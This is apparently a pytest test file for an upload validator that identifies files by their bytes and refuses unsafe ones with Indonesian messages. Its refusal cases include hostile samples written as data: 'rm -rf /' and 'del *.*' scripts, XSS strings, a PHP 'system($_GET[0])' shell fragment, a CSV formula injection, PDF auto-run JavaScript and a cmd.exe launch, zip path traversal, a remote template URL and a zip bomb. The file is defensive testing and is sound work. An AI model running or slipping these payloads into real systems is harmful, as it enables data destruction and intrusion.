"""A file is what its bytes say; what we do not take is refused with its own sentence."""

import io
import time

import pytest

from content.filetypes import FileRefused, Group, Limits, identify
from tests.content import hostile_files as make

SMALL = Limits(
    max_bytes={
        Group.PICTURE: 2_000_000,
        Group.DOCUMENT: 2_000_000,
        Group.DATA: 2_000_000,
        Group.VIDEO: 3_000_000,
    }
)
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
REMOTE = (
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
)


def identified(data, name="berkas.bin", limits=None):
    return identify(io.BytesIO(data), name, limits or Limits())


ACCEPTED = [
    (make.encoded(make.drawing(), "JPEG"), "image/jpeg", "picture"),
    (make.encoded(make.drawing(), "PNG"), "image/png", "picture"),
    (make.encoded(make.drawing(), "WEBP"), "image/webp", "picture"),
    (make.encoded(make.drawing(), "GIF"), "image/gif", "picture"),
    (make.encoded(make.drawing(64, 64), "AVIF"), "image/avif", "picture"),
    (make.encoded(make.drawing(), "BMP"), "image/bmp", "picture"),
    (make.encoded(make.drawing(), "TIFF"), "image/tiff", "picture"),
    (make.pdf(), "application/pdf", "document"),
    (
        make.ooxml("docx"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "document",
    ),
    (
        make.ooxml("xlsx"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "data",
    ),
    (
        make.ooxml("pptx"),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        "document",
    ),
    (make.odf("text"), "application/vnd.oasis.opendocument.text", "document"),
    (make.odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet", "data"),
    (make.xls(), "application/vnd.ms-excel", "data"),
    (make.mp4(), "video/mp4", "video"),
    (make.webm(), "video/webm", "video"),
]


@pytest.mark.parametrize(("data", "media_type", "group"), ACCEPTED, ids=lambda v: str(v)[:24])
@pytest.mark.parametrize("name", ["a.exe", "laporan.pdf", "tanpa-akhiran", "x.html"])
def test_a_file_is_known_by_its_bytes_whatever_it_is_called(data, media_type, group, name):
    found = identified(data, name)
    assert (found.media_type, found.group) == (media_type, group)


@pytest.mark.parametrize(
    ("data", "name", "media_type"),
    [
        (b"desa;penduduk\nPemuteran;9.500\n", "data.csv", "text/csv"),
        (b"\xef\xbb\xbfdesa,jumlah\nPatas,1\n", "DATA.CSV", "text/csv"),
        ("desa,catatan\nTinga-Tinga,caf\xe9\n".encode("cp1252"), "d.csv", "text/csv"),
        (b"Catatan rapat, 5 < 7 dan a > b.\r\n", "catatan.txt", "text/plain"),
        (b"BMKG: hujan lebat\n", "cuaca.txt", "text/plain"),
    ],
)
def test_csv_and_text_are_taken_in_the_encodings_of_office_computers(data, name, media_type):
    assert identified(data, name).media_type == media_type


REFUSED = [
    ("kosong.pdf", b"", "kosong (0 byte)"),
    ("foto.heic", make.heic(), "Paling Kompatibel"),
    ("halaman.pdf", b"<!DOCTYPE html><html></html>", "halaman web"),
    ("halaman.jpg", b"\xef\xbb\xbf \n<HTML><body>", "halaman web"),
    ("logo.png", b'<?xml version="1.0"?><svg xmlns="x"></svg>', "SVG"),
    ("logo.svg", b"<svg onload=alert(1)>", "SVG"),
    ("foto.jpg", b"MZ\x90\0" + bytes(400), "program"),
    ("foto.jpg", b"\x7fELF" + bytes(400), "program"),
    ("kode.js", b"alert(1)", "tidak berakhiran .csv atau .txt"),
    ("skrip.txt", b"#!/bin/sh\nrm -rf /\n", "perintah program"),
    ("skrip.csv", b"@echo off\r\ndel *.*\r\n", "perintah program"),
    ("catatan.txt", b"Halo <script>alert(1)</script>", "kode halaman web"),
    ("data.csv", b"nama,<img src=x onerror=alert(1)>", "kode halaman web"),
    ("a.txt", b"isi <?php system($_GET[0]);", "kode halaman web"),
    ("data.csv", b"a,b\n=cmd|'/c calc'!A1,2\n", "memanggil program"),
    ("data.csv", "desa,1\n".encode("utf-16"), "CSV UTF-8"),
    ("data.csv", b"a,b\0c", "bukan jenis yang dikenal"),
    ("acak.bin", bytes(range(256)) * 4, "bukan jenis yang dikenal"),
    ("arsip.zip", make.package([("a.txt", "isi")]), "arsip ZIP"),
    ("kosong.docx", make.package([]), "ZIP yang kosong"),
    ("prog.docx", make.package([("META-INF/MANIFEST.MF", "x"), ("A.class", "y")]), "JAR"),
    ("arsip.rar", b"Rar!\x1a\x07\x01\0" + bytes(90), "RAR"),
    ("arsip.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(90), "7-Zip"),
    ("arsip.tar", b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + bytes(300), "TAR"),
    ("arsip.gz", b"\x1f\x8b\x08" + bytes(90), "GZIP"),
    ("lama.doc", make.compound([("WordDocument", b"\xec\xa5")]), "Word lama"),
    ("lama.ppt", make.compound([("PowerPoint Document", b"x")]), "PowerPoint lama"),
    ("lama.msi", make.compound([("Lain", b"x")]), "Office lama yang tidak dikenal"),
    ("kunci.docx", make.compound([("EncryptedPackage", b"x")]), "kata sandi"),
    ("kunci.xls", make.xls(password=True), "kata sandi"),
    ("makro.xls", make.xls(macros=True), "makro"),
    ("rusak.xls", make.xls()[:700], "rusak atau terpotong"),
    ("putar.xls", bytes(make.xls()[:512]) + b"\0\0\0\0" * 512, "rusak atau terpotong"),
    ("makro.xlsx", make.ooxml("xlsx", content_type=MACRO_SHEET), "makro"),
    ("makro.docx", make.ooxml("docx", [("word/vbaProject.bin", b"x")]), "makro"),
    ("makro.ods", make.odf("spreadsheet", [("Basic/Standard/Module1.xml", "x")]), "makro"),
    ("aktif.docx", make.ooxml("docx", [("word/activeX/activeX1.xml", "x")]), "makro"),
    ("kunci.docx", make.locked_package(), "kata sandi"),
    (
        "kunci.odt",
        make.package(
            [
                ("mimetype", "application/vnd.oasis.opendocument.text"),
                ("content.xml", "?"),
                ("META-INF/manifest.xml", "<manifest:encryption-data/>"),
            ]
        ),
        "kata sandi",
    ),
    ("buku.epub", make.package([("mimetype", "application/epub+zip"), ("a", "b")]), "EPUB"),
    ("templat.docx", make.ooxml("docx", content_type="application/x-templat"), "templat"),
    ("potong.docx", make.ooxml("docx")[:-30], "rusak atau terpotong"),
    ("rusak.docx", make.ooxml("docx").replace(b"<document>", b"<dokument>"), None),
    ("bohong.docx", make.lying_package(), "rusak atau terpotong"),
    ("naik.docx", make.ooxml("docx", [("../../etc/cron.d/x", "y")]), "isi tambahan"),
    ("mutlak.docx", make.ooxml("docx", [("/etc/passwd", "y")]), "isi tambahan"),
    ("ekor.docx", make.ooxml("docx") + make.SCRIPT, None),
    ("komentar.docx", make.ooxml("docx", comment=make.pdf()), "isi tambahan"),
    ("jauh.docx", make.ooxml("docx", [("word/_rels/settings.xml.rels", REMOTE)]), "templat"),
    (
        "entitas.docx",
        make.ooxml("docx", [("word/x.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')]),
        "deklarasi",
    ),
    ("potong.pdf", make.pdf()[:-60], "PDF yang terpotong"),
    ("kepala.pdf", b"%PDF-1.7\n", "PDF yang terpotong"),
    ("kunci.pdf", make.pdf(trailer=b"/Encrypt 9 0 R"), "kata sandi"),
    ("aktif.pdf", make.pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "menjalankan"),
    ("luncur.pdf", make.pdf(b"/OpenAction<</S /Launch/F(cmd.exe)>>"), "menjalankan"),
    ("dua.pdf", make.pdf(tail=make.package([("a.txt", "isi")])), "isi tambahan"),
    ("ekor.pdf", make.pdf(tail=make.SCRIPT), "isi tambahan"),
    ("suara.mp3", b"ID3\x03\0" + bytes(90), "suara"),
    ("suara.m4a", make.mp4(b"M4A ", b"M4A isom"), "suara"),
    ("film.mov", make.mp4(b"qt  ", b"qt  "), "Ubah menjadi MP4"),
    ("film.3gp", make.mp4(b"3gp4", b"3gp4"), "Ubah menjadi MP4"),
    ("film.avi", b"RIFF\0\0\0\0AVI LIST" + bytes(90), "AVI"),
    ("film.mkv", make.webm(b"matroska"), "Matroska"),
    ("film.wmv", bytes.fromhex("3026b2758e66cf11") + bytes(90), "Windows Media"),
    ("potong.mp4", make.mp4()[:-100], "terpotong atau rusak"),
    ("kepala.mp4", make.box(b"ftyp", b"isom\0\0\0\0isom"), "terpotong atau rusak"),
    ("potong.webm", make.webm()[:-100], "terpotong atau rusak"),
    ("gambar.psd", b"8BPS\0\1" + bytes(90), "Photoshop"),
    ("ikon.ico", b"\0\0\x01\0\x01\0" + bytes(90), "ICO"),
    ("surat.rtf", b"{\\rtf1 halo}", "RTF"),
    ("data.db", b"SQLite format 3\0" + bytes(90), "basis data"),
]


@pytest.mark.parametrize(("name", "data", "words"), REFUSED, ids=[f"{r[0]}" for r in REFUSED])
def test_what_we_do_not_take_is_refused_by_name_and_with_the_way_out(name, data, words):
    if words is None:
        # Damage inside compressed bytes has more than one honest description.
        words = "lalu unggah lagi"
        if name == "rusak.docx":
            data = data[:60] + bytes(b ^ 0x5A for b in data[60:90]) + data[90:]
    with pytest.raises(FileRefused) as refusal:
        identified(data, name)
    sentence = str(refusal.value)
    assert sentence.startswith(f"Berkas “{name}” ")
    assert words in sentence
    assert sentence.endswith(".")
    assert "!" not in sentence


@pytest.mark.parametrize(("data", "media_type", "group"), ACCEPTED, ids=lambda v: str(v)[:24])
def test_every_beginning_of_a_good_file_is_answered_with_a_sentence_or_a_type(
    data, media_type, group
):
    for length in {1, 2, 7, 11, 15, 17, 40, 100, 513, len(data) // 2, len(data) - 1}:
        try:
            found = identified(data[:length], "potong.bin")
        except FileRefused:
            continue
        assert found.media_type == media_type


def test_a_zip_bomb_is_refused_without_being_unpacked():
    bomb = make.zip_bomb()
    assert len(bomb) < 1_000_000
    before = time.process_time()
    with pytest.raises(FileRefused, match="membengkak tidak wajar"):
        identified(bomb, "bom.xlsx")
    assert time.process_time() - before < 1


def test_a_package_of_very_many_members_is_refused():
    many = make.ooxml("docx", [(f"word/{n}.xml", "") for n in range(5_001)])
    with pytest.raises(FileRefused, match="membengkak tidak wajar"):
        identified(many, "banyak.docx")


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (make.encoded(make.drawing(), "PNG").ljust(2_500_000), "gambar paling besar 2 MB"),
        (make.pdf().ljust(2_500_000), "dokumen paling besar 2 MB"),
        (make.xls().ljust(2_500_000), "berkas data paling besar 2 MB"),
        (b"a,b\n".ljust(2_500_000), "berkas data paling besar 2 MB"),
        (make.mp4(length=3_500_000), "video paling besar 3 MB"),
        (bytes(3_500_000), "video paling besar 3 MB"),
    ],
)
def test_what_is_too_large_for_its_group_is_refused_with_both_sizes(data, words):
    with pytest.raises(FileRefused) as refusal:
        identified(data, "besar.csv", SMALL)
    assert words in str(refusal.value)
    assert f"{len(data) / 1024 / 1024:.1f} MB".replace(".", ",") in str(refusal.value)


def test_limits_come_from_the_settings(settings):
    settings.UPLOAD_MAX_BYTES = {"picture": 10, "document": 20, "data": 30, "video": 40}
    settings.UPLOAD_MAX_PIXELS = 50
    limits = Limits.from_settings()
    assert limits.max_bytes[Group.DATA] == 30
    assert limits.max_pixels == 50


def test_a_refusal_never_repeats_what_could_mislead_in_a_name():
    with pytest.raises(FileRefused) as refusal:
        identified(b"MZ\0\0", "C:\\a\\foto\u202egpj.exe\0\n")
    assert "“fotogpj.exe”" in str(refusal.value)


def test_the_stream_is_left_at_its_beginning():
    stream = io.BytesIO(make.pdf())
    stream.seek(5)
    identify(stream, "a.pdf", Limits())
    assert stream.tell() == 0
